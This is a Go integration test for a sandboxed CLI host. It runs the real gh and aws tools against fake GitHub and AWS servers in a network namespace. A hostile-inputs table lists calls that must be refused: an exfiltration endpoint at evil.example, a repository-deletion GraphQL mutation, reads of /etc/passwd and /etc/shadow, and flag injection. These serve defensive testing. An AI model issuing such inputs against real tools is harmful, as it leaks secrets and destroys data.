package tests

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/clihost/clihost/argv"
	"github.com/clihost/clihost/internal/fixture"
	"github.com/clihost/clihost/manifest"
	"github.com/clihost/clihost/output"
)

// The catalog's gh and aws bundles are tested with the real Debian gh and aws against a fake
// GitHub and a fake AWS on loopback, without touching the network: a network and mount namespace
// made for the test (apiNet) holds the fakes on 127.0.0.1:443, an /etc/hosts that sends the real
// API host names (api.github.com, sts.amazonaws.com, …) there and a CA bundle that trusts the
// fakes' certificate. clihostd runs inside those namespaces with loopback admitted for egress
// (--egress-admit), so each call goes the way it goes in production: the unmodified shipped
// bundle, the real CLI in the kernel sandbox, its HTTPS through the call's egress proxy to the
// bundle's allowed host names, and its output parsed and checked against the tool's outputs.

// apiHosts are the names the fakes answer for: what the CLIs resolve with region us-east-1.
var apiHosts = []string{
	"api.github.com", "github.com", "uploads.github.com",
	"sts.amazonaws.com", "sts.us-east-1.amazonaws.com", "s3.amazonaws.com", "s3.us-east-1.amazonaws.com",
	"my-bucket.s3.amazonaws.com", "my-bucket.s3.us-east-1.amazonaws.com", "ec2.us-east-1.amazonaws.com",
	"logs.us-east-1.amazonaws.com", "iam.amazonaws.com", "cloudformation.us-east-1.amazonaws.com",
	"lambda.us-east-1.amazonaws.com", "api.ecr.us-east-1.amazonaws.com",
}

// apiNet is a network and mount namespace held by a sleeping process, with the fakes' /etc/hosts
// and CA bundle bound in its mount namespace and loopback up.
type apiNet struct{ pid int }

// newAPINet makes the namespaces and the TLS certificate the fakes serve, for apiHosts.
func newAPINet(t *testing.T) (*apiNet, tls.Certificate) {
	t.Helper()
	fixture.NeedRoot(t)
	fixture.Need(t, "unshare", "nsenter", "ip", "mount")
	dir := t.TempDir()
	fixture.Reachable(t, dir)
	caPEM, cert := makeCert(t)
	hosts := "127.0.0.1 localhost " + strings.Join(apiHosts, " ") + "\n"
	ca := filepath.Join(dir, "ca.pem")
	for p, s := range map[string]string{filepath.Join(dir, "hosts"): hosts, ca: caPEM} {
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	script := fmt.Sprintf("ip link set lo up && mount --bind %s/hosts /etc/hosts && mount --bind %s /etc/ssl/certs/ca-certificates.crt && echo ready && exec sleep 3600", dir, ca)
	cmd := exec.Command("unshare", "--net", "--mount", "--propagation", "private", "sh", "-c", script)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	p := fixture.Start(t, cmd)
	line, err := fixture.Follow(out).Wait("ready", 30*time.Second)
	if err != nil {
		t.Fatalf("namespace holder: %v %q", err, line)
	}
	return &apiNet{pid: p.Cmd.Process.Pid}, cert
}

// listen opens a TCP listener on addr inside the namespace: the socket belongs to the network
// namespace of the thread that creates it, and stays there once the thread is back.
func (n *apiNet) listen(t *testing.T, addr string) net.Listener {
	t.Helper()
	target, err := unix.Open(fmt.Sprintf("/proc/%d/ns/net", n.pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(target)
	runtime.LockOSThread()
	self, err := unix.Open(fmt.Sprintf("/proc/self/task/%d/ns/net", unix.Gettid()), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		runtime.UnlockOSThread()
		t.Fatal(err)
	}
	defer unix.Close(self)
	if err := unix.Setns(target, unix.CLONE_NEWNET); err != nil {
		runtime.UnlockOSThread()
		t.Fatalf("setns: %v", err)
	}
	ln, lerr := net.Listen("tcp", addr)
	if err := unix.Setns(self, unix.CLONE_NEWNET); err != nil {
		// The thread stays locked, so the runtime ends it with its goroutine rather than reuse it.
		t.Fatalf("setns back: %v", err)
	}
	runtime.UnlockOSThread()
	if lerr != nil {
		t.Fatal(lerr)
	}
	return ln
}

// enter makes cmd start inside the namespaces.
func (n *apiNet) enter(cmd *exec.Cmd) {
	pid := fmt.Sprint(n.pid)
	cmd.Args = append([]string{"nsenter", "--target", pid, "--net", "--mount", "--"}, cmd.Args...)
	cmd.Path = "/usr/bin/nsenter"
}

// makeCert returns a CA certificate (PEM) and a server certificate it signed for apiHosts and the
// wildcards below them.
func makeCert(t *testing.T) (string, tls.Certificate) {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	now := time.Now()
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "clihost test CA"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	caCert, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	names := append(slices.Clone(apiHosts), "*.s3.amazonaws.com", "*.s3.us-east-1.amazonaws.com")
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "api.github.com"}, DNSNames: names,
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, caCert, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})), tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// seen is one request a fake received.
type seen struct {
	Method, Host, Path, Query, Body string
	Target                          string // X-Amz-Target: the operation of AWS's JSON protocol
}

func (s seen) String() string {
	return fmt.Sprintf("%s https://%s%s?%s %s %s", s.Method, s.Host, s.Path, s.Query, s.Target, s.Body)
}

// fakeAPIs answers the CLIs' requests from canned responses (githubAnswer, awsAnswer) and records
// them; a request it has no answer for gets 404 (REST) or a GraphQL error naming it.
type fakeAPIs struct {
	mu   sync.Mutex
	reqs []seen
}

func (f *fakeAPIs) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	host, _, err := net.SplitHostPort(r.Host)
	if err != nil {
		host = r.Host
	}
	s := seen{r.Method, host, r.URL.Path, r.URL.RawQuery, string(body), r.Header.Get("X-Amz-Target")}
	f.mu.Lock()
	f.reqs = append(f.reqs, s)
	f.mu.Unlock()
	var a answer
	if strings.HasSuffix(host, "github.com") {
		a = githubAnswer(s)
	} else {
		a = awsAnswer(s)
	}
	if a.ctype == "" {
		a.ctype = "application/json; charset=utf-8"
	}
	for k, v := range a.header {
		w.Header().Set(k, v)
	}
	w.Header().Set("Content-Type", a.ctype)
	w.WriteHeader(cmpInt(a.status, http.StatusOK))
	_, _ = io.WriteString(w, a.body)
}

// since returns the requests received after the first n.
func (f *fakeAPIs) since(n int) []seen {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.reqs[n:])
}

func (f *fakeAPIs) count() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.reqs)
}

func cmpInt(a, b int) int {
	if a != 0 {
		return a
	}
	return b
}

// answer is a canned response.
type answer struct {
	status      int
	ctype, body string
	header      map[string]string
}

// catCase is one call of a catalog tool: its input, the argv the bundle must build from it (after
// the binary) and what the fake must have been asked. The fake answers every case, so each call
// must succeed with a value that satisfies the tool's outputs (and holds valueHas's text).
type catCase struct {
	bundle, tool, input string
	argv                []string
	asked               string // a substring of one request the call made (seen.String); empty: none
}

// TestCatalogGhAwsRealCLIs runs every tool of the catalog's gh and aws bundles, with the real
// Debian binaries in the sandbox, through clihostd, against the fakes.
func TestCatalogGhAwsRealCLIs(t *testing.T) {
	needLong(t)
	fixture.Need(t, "gh", "/usr/bin/aws")
	bs := map[string]*manifest.Bundle{}
	for _, b := range catalog(t) {
		if b.ID() == "gh" || b.ID() == "aws" {
			bs[b.ID()] = b
		}
	}
	cases := append(ghCases(), awsCases()...)
	checkCoverage(t, bs, cases)
	for _, c := range cases {
		entry := toolEntry(t, bs[c.bundle], c.tool)
		if got := expandArgv(t, bs[c.bundle], entry, c.input); !slices.Equal(got, c.argv) {
			t.Errorf("%s %s %s: argv\n got %q\nwant %q", c.bundle, c.tool, c.input, got, c.argv)
		}
	}
	if t.Failed() {
		t.FailNow()
	}

	n, cert := newAPINet(t)
	fake := &fakeAPIs{}
	srv := &http.Server{Handler: fake, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}, ReadHeaderTimeout: 10 * time.Second}
	ln := n.listen(t, "127.0.0.1:443")
	go func() { _ = srv.ServeTLS(ln, "", "") }()
	t.Cleanup(func() { _ = srv.Close() })

	ws := t.TempDir()
	if err := os.WriteFile(filepath.Join(ws, "up.txt"), []byte("UPLOAD\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	fixture.GiveToAgent(t, ws)
	d := startDaemonWith(t, t.TempDir(), ws, func(cmd *exec.Cmd) {
		cmd.Env = append(cmd.Env, "GH_TOKEN=ghp_faketokenfortests", "AWS_ACCESS_KEY_ID=AKIAFAKEFORTESTS0000",
			"AWS_SECRET_ACCESS_KEY=fakesecretfakesecretfakesecretfakesecret", "AWS_REGION=us-east-1", "AWS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt") // the bundle bound in the namespace
		n.enter(cmd)
	}, "--egress-admit", "127.0.0.0/8")

	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("every request the fakes received:\n%s", joinSeen(fake.since(0)))
		}
	})
	for _, c := range cases {
		t.Run(c.bundle+" "+c.tool, func(t *testing.T) {
			entry := toolEntry(t, bs[c.bundle], c.tool)
			before := fake.count()
			e, raw := callThroughDaemon(t, d, c, len(entry.Tool.Mutates) > 0, fake, before)
			reqs := fake.since(before)
			if c.asked != "" && !slices.ContainsFunc(reqs, func(s seen) bool { return strings.Contains(s.String(), c.asked) }) {
				t.Errorf("no request contains %q; requests:\n%s\nenvelope: %s", c.asked, joinSeen(reqs), raw)
			}
			if !e.OK {
				t.Fatalf("call failed: %s\nrequests:\n%s", raw, joinSeen(reqs))
			}
			if err := entry.OutputSchema().Validate(e.Value); err != nil {
				t.Errorf("value does not satisfy outputs: %v\n%s", err, raw)
			}
			if want, ok := valueHas[c.bundle+" "+c.tool]; ok {
				if v, _ := json.Marshal(e.Value); !strings.Contains(string(v), want) {
					t.Errorf("value lacks %q: %s", want, v)
				}
			}
		})
	}
	// s3 cp downloaded the fake's object into the workspace (and its upload read up.txt there).
	if b, err := os.ReadFile(filepath.Join(d.ws, "dl", "a.txt")); err != nil || string(b) != "hello\n" {
		t.Errorf("s3 cp: the workspace's dl/a.txt is %q, %v", b, err)
	}
	t.Run("hostile inputs", func(t *testing.T) { checkHostile(t, d, fake) })
}

// hostileInputs are calls an agent could make to reach past a tool: a URL or GraphQL through the
// read-only api tool, a flag where a positional goes, a file outside the workspace as a release
// asset or an upload. Each is refused with code before anything reaches the fakes.
var hostileInputs = []struct{ bundle, tool, input, code string }{
	{"gh", "api", `{"endpoint": "https://evil.example/steal"}`, "input_invalid"},
	{"gh", "api", `{"endpoint": "graphql", "fields": {"query": "mutation{deleteRepository}"}}`, "input_invalid"},
	{"gh", "api", `{"endpoint": "repos/octo/app/../../user"}`, "input_invalid"},
	{"gh", "api", `{"endpoint": "-XPOST"}`, "input_invalid"},
	{"gh", "api", `{"endpoint": "user", "fields": {"-F": "x"}}`, "input_invalid"},
	{"gh", "pr.view", `{"pr": "--web"}`, "input_invalid"},
	{"gh", "run.view", `{"run_id": "1", "log": true, "log_failed": true}`, "input_invalid"},
	{"gh", "release.create", `{"tag": "v9", "files": ["dist/../../etc/passwd"]}`, "path_traversal_blocked"},
	{"gh", "release.create", `{"tag": "v9", "files": ["/etc/passwd"]}`, "input_invalid"},
	{"aws", "s3.cp", `{"source": "/etc/shadow", "destination": "s3://my-bucket/x"}`, "input_invalid"},
	{"aws", "logs.tail", `{"log_group": "-h"}`, "input_invalid"},
	{"aws", "ec2.describe-vpcs", `{"filters": [{"Name": "x", "Values": ["a"], "Extra": "--debug"}]}`, "input_invalid"},
}

// checkHostile makes each hostileInputs call through d and checks its refusal.
func checkHostile(t *testing.T, d *daemonProc, fake *fakeAPIs) {
	for _, h := range hostileInputs {
		before := fake.count()
		r := d.ctl(t, "call", h.bundle, h.tool, "--workspace", d.ws, "--input", h.input)
		if e := decodeEnvelope(t, r); e.OK || e.Error == nil || e.Error.Code != h.code {
			t.Errorf("%s %s %s: want %s, got %s%s", h.bundle, h.tool, h.input, h.code, r.stdout, r.stderr)
		}
		if got := fake.since(before); len(got) != 0 {
			t.Errorf("%s %s %s reached the fakes:\n%s", h.bundle, h.tool, h.input, joinSeen(got))
		}
	}
}

// valueHas is what a tool's value must contain (in its JSON form): what the fake answered, as the
// tool reshapes it (a text table, a log, a URL, fields gh renamed or the aws CLI converted).
var valueHas = map[string]string{
	"gh auth.status": "", "gh pr.list": `"headRefName":"fix"`, "gh pr.view": `"reviewDecision":"APPROVED"`,
	"gh pr.diff": `cmd/main.go`, "gh pr.checks": `build\tpass`, "gh pr.create": "https://github.com/octo/app/pull/43",
	"gh issue.list": `"title":"Crash on start"`, "gh issue.view": `"body":"Steps: run it."`, "gh issue.create": "https://github.com/octo/app/issues/8",
	"gh run.list": `"databaseId":1001`, "gh run.view": "--- FAIL: TestCrash", "gh workflow.list": `CI\tactive\t55`,
	"gh workflow.view": "workflow_dispatch", "gh release.list": `v1.2.0\tLatest\tv1.2.0`, "gh release.view": `"tagName":"v1.2.0"`,
	"gh release.create": "https://github.com/octo/app/releases/tag/untagged-1", "gh repo.view": `"nameWithOwner":"octo/app"`,
	"gh repo.list": `"nameWithOwner":"octo/app"`, "gh search.repos": `"fullName":"octo/app"`, "gh search.issues": `"number":7`,
	"gh search.prs": `"number":7`, "gh search.commits": `"sha":"3f1c2a9d"`, "gh label.list": `"name":"bug"`,
	"gh gist.list": "5b0e0062eb8e9654adad7bb1d81cc75f", "gh gist.view": "# Notes", "gh api": `\"state\":\"success\"`,
	"aws sts.get-caller-identity": `"Account":"123456789012"`, "aws s3.ls": `PRE 2026/\n2026-11-20 10:00:00          6 a.txt`, "aws s3.cp": "s3://my-bucket/",
	"aws s3.presign": "X-Amz-Signature=", "aws s3api.list-objects-v2": `"Key":"logs/a.txt"`, "aws ec2.describe-instances": `"InstanceId":"i-0123456789abcdef0"`,
	"aws ec2.describe-vpcs": `"VpcId":"vpc-0a1b2c3d"`, "aws ec2.describe-subnets": `"SubnetId":"subnet-0a1b2c3d"`,
	"aws ec2.describe-security-groups": `["sg-0123abcd"]`, "aws logs.describe-log-groups": `"logGroupName":"/aws/lambda/checkout"`,
	"aws logs.filter-log-events": "ERROR payment timeout", "aws logs.tail": "ERROR payment timeout", "aws iam.list-roles": `"RoleName":"deploy-ci"`,
	"aws iam.get-role": `"LastUsedDate"`, "aws cloudformation.describe-stacks": `"OutputValue":"https://api.example.com"`,
	"aws cloudformation.describe-stack-events": `"ResourceStatus":"UPDATE_FAILED"`, "aws lambda.list-functions": `"FunctionName":"checkout"`,
	"aws lambda.get-function": `"LastUpdateStatus":"Successful"`, "aws ecr.describe-repositories": `"repositoryName":"web"`,
}

// callThroughDaemon calls c with clihostctl over the daemon's socket. A mutating tool must first
// come back approval_required without having sent anything; it is then approved and called again.
func callThroughDaemon(t *testing.T, d *daemonProc, c catCase, mutates bool, fake *fakeAPIs, before int) (envelope, string) {
	t.Helper()
	args := []string{"call", c.bundle, c.tool, "--workspace", d.ws, "--input", c.input}
	r := d.ctl(t, args...)
	if mutates {
		var pending struct {
			Error struct {
				Code     string
				Approval struct{ ID string }
			}
		}
		if err := json.Unmarshal([]byte(r.stdout), &pending); err != nil || pending.Error.Code != "approval_required" || pending.Error.Approval.ID == "" {
			t.Fatalf("a mutating tool ran without approval: exit %d %s%s", r.code, r.stdout, r.stderr)
		}
		if got := fake.since(before); len(got) != 0 {
			t.Fatalf("requests before approval:\n%s", joinSeen(got))
		}
		if a := d.ctl(t, "approve", pending.Error.Approval.ID); a.code != 0 {
			t.Fatalf("approve: exit %d %s%s", a.code, a.stdout, a.stderr)
		}
		r = d.ctl(t, args...)
	}
	return decodeEnvelope(t, r), r.stdout + r.stderr
}

func joinSeen(reqs []seen) string {
	var b strings.Builder
	for _, s := range reqs {
		b.WriteString("  " + s.String() + "\n")
	}
	return b.String()
}

// checkCoverage fails t unless every tool of both bundles has a case.
func checkCoverage(t *testing.T, bs map[string]*manifest.Bundle, cases []catCase) {
	t.Helper()
	for id, min := range map[string]int{"gh": 30, "aws": 15} {
		b := bs[id]
		if b == nil {
			t.Fatalf("the catalog has no %s bundle", id)
		}
		if len(b.Tools) < min {
			t.Errorf("%s has %d tools, want at least %d", id, len(b.Tools), min)
		}
		for _, e := range b.Tools {
			name := strings.Join(e.Path, ".")
			if !slices.ContainsFunc(cases, func(c catCase) bool { return c.bundle == id && c.tool == name }) {
				t.Errorf("%s %s has no case", id, name)
			}
		}
	}
}

func toolEntry(t *testing.T, b *manifest.Bundle, name string) *manifest.ToolEntry {
	t.Helper()
	for _, e := range b.Tools {
		if strings.Join(e.Path, ".") == name {
			return e
		}
	}
	t.Fatalf("%s has no tool %s", b.ID(), name)
	return nil
}

// expandArgv builds the argv the host runs for input (after the binary): the template expanded
// and the bundle's JSON flag added, after the input was validated against the tool's inputs.
func expandArgv(t *testing.T, b *manifest.Bundle, e *manifest.ToolEntry, input string) []string {
	t.Helper()
	var in map[string]any
	if err := json.Unmarshal([]byte(input), &in); err != nil {
		t.Fatalf("%s: input %s: %v", e.Tool.ID, input, err)
	}
	if err := e.InputSchema().Validate(in); err != nil {
		t.Fatalf("%s: input %s is invalid: %v", e.Tool.ID, input, err)
	}
	args, err := argv.Expand(e.Tool.Runner.Parsed, in, nil)
	if err != nil {
		t.Fatalf("%s: expand: %v", e.Tool.ID, err)
	}
	return output.For(b.CLI, e.Tool).Args(args)
}
